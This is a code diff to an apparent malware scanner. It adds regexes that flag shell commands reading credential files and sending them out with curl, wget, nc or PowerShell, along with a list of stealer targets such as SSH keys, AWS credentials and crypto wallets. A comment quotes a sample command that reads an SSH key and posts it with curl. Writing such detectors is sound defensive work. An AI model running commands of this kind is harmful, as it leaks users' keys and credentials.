@@ -208,6 +208,11 @@ SHELL_PIPE_EXEC: Final = re.compile(
 )
 #: Starting a program is ordinary (installers run msiexec); after a download on the same line it is the dropper.
 SHELL_LAUNCH: Final = re.compile(r"Start-Process|regsvr32|rundll32|&&\s*\./|;\s*\./", re.IGNORECASE)
+SHELL_SENDS: Final = re.compile(
+    r"\b(?:curl|wget|nc|ncat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b.*(?:https?://|\s\d{1,3}(?:\.\d{1,3}){3}\b)",
+    re.IGNORECASE,
+)
+SHELL_READS: Final = re.compile(r"\b(?:cat|type|xargs\s+cat|Get-Content|base64|tar|zip)\b", re.IGNORECASE)
 #: ``powershell -enc <base64 UTF-16LE>``: a command nobody can read without decoding it.
 SHELL_ENCODED_POWERSHELL: Final = re.compile(
     r"\b(?:powershell|pwsh)(?:\.exe)?\b[^|&;]*?\s-(?:e|ec|en|enc|enco|encodedcommand)\s+['\"]?([A-Za-z0-9+/=]{16,})",
@@ -573,6 +578,12 @@ def shell_command_signals(command: str) -> list[tuple[str, str]]:
     label = exfil_label(command)
     if label:
         found.append(("malicious-exfil-endpoint", label))
+    secret = credential_label(command) if len(command) <= 300 else None
+    if secret and SHELL_SENDS.search(command):
+        # ``a=$(cat ~/.ssh/id_rsa.pub) && curl -d "k=$a" https://…``: read and sent on one command line
+        found.append(("malicious-credential-access", f"shell command sends {secret} over the network"))
+    elif secret and SHELL_READS.search(command):
+        found.append(("malicious-credential-access", f"shell command reads {secret}"))
     return found
 
 
@@ -623,6 +634,17 @@ class _FileView:
         return {s.rule_id for s in self.signals if scope is None or s.scope == scope}
 
 
+#: Stores that only stealers read: naming one next to network code stays suspicious even at module level.
+STEALER_TARGETS: Final = (
+    "SSH keys", "AWS credentials", "browser", "crypto wallet", "Discord", "Telegram", "cloud instance",
+    "Roblox", "GitHub CLI",
+)  # fmt: skip
+
+
+def _stealer_target(why: str) -> bool:
+    return any(target in why for target in STEALER_TARGETS)
+
+
 def signal_severity(signal: Signal, same_file: _FileView) -> tuple[Severity, list[str]]:
     """Severity of one signal judged with everything else seen in its file."""
     rule = RULES[signal.rule_id]
@@ -639,10 +661,12 @@ def signal_severity(signal: Signal, same_file: _FileView) -> tuple[Severity, lis
     in_file = same_file.rules()
     egress = {"capability-network", "malicious-exfil-endpoint"}
     if signal.rule_id in {"malicious-credential-access", "malicious-env-exfiltration"}:
-        if signal.flow:
+        if signal.flow or "shell command sends" in signal.why:
             severity = Severity.CRITICAL
             reasons.append(f"data flow: {signal.flow}")
-        elif in_scope & egress and not (signal.scope == "<module>" and signal.why.startswith("names ")):
+        elif in_scope & egress and not (
+            signal.scope == "<module>" and signal.why.startswith("names ") and not _stealer_target(signal.why)
+        ):
             severity = _at_least(severity, Severity.HIGH)
             reasons.append("read and network send in the same function")
         elif in_scope & egress:
